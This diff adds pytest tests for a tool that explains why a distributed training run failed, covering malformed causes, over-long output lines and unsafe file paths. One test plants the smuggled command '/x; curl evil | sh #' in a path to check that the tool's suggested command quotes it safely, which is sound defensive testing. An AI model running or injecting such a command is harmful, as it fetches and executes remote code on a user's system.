@@ -195,3 +195,41 @@ def test_an_error_of_a_node_is_no_longer_than_a_page(liars: Liars) -> None:
     code, _, err = liars.run("status")
     assert code == 3
     assert len(err) < 20_000
+
+
+def told(*events: dict[str, Any], **more: Any) -> Any:
+    """An agent whose story of a failed run has these events."""
+    found = {"events": events, "outputs": [], "seen": 1.7e9, "booted": None, "free_bytes": 1, "python": "3.11"}
+    return lambda request: (
+        lines(*CLOCK, {"done": {**status(1, state="failed"), **found, **more}})
+        if request["op"] == "story"
+        else answer(1, request, state="failed", ended=ENDED)
+    )
+
+
+@pytest.mark.parametrize("half", [{"role": "trainer"}, {"rank": 1}, {"role": EVIL, "rank": None}])
+def test_a_cause_that_names_half_a_process_does_not_take_why_along(liars: Liars, half: dict[str, Any]) -> None:
+    cause = {"kind": "node", "message": "m", "node": 1, **half}
+    ended = {**AT, "event": "ended", "state": "failed", "cause": cause, "not_heard_of": []}
+    liars.answers["node0"] = told(*EVENTS)
+    liars.answers["node1"] = told({**EVENTS[2], "cause": cause}, ended)
+    code, out, err = liars.run("why")
+    assert (code, "Traceback" in err) == (0, False), err
+    assert "first cause: trainer1@" in out
+
+
+def test_advice_that_names_a_path_cannot_be_pasted_into_mischief(liars: Liars) -> None:
+    last = "FileNotFoundError: [Errno 2] No such file or directory: '/x; curl evil | sh #'"
+    outputs = [{**TRAINER, "lines": [[1.7e9, "Traceback (most recent call last):"], [1.7e9, last]]}]
+    liars.answers["node0"] = liars.answers["node1"] = told(*EVENTS, outputs=outputs)
+    _, out, _ = liars.run("why")
+    assert "ls -ld '/x; curl evil | sh #'\n" in out
+
+
+def test_a_story_with_lines_longer_than_any_is_none(liars: Liars) -> None:
+    outputs = [{**TRAINER, "lines": [[1.7e9, "x" * (1 << 17)]]}]
+    liars.answers["node0"] = told(*EVENTS)
+    liars.answers["node1"] = told(*EVENTS, outputs=outputs)
+    code, out, err = liars.run("why")
+    assert (code, "node1: its answer makes no sense" in err) == (3, True)
+    assert "first cause: trainer1@" in out
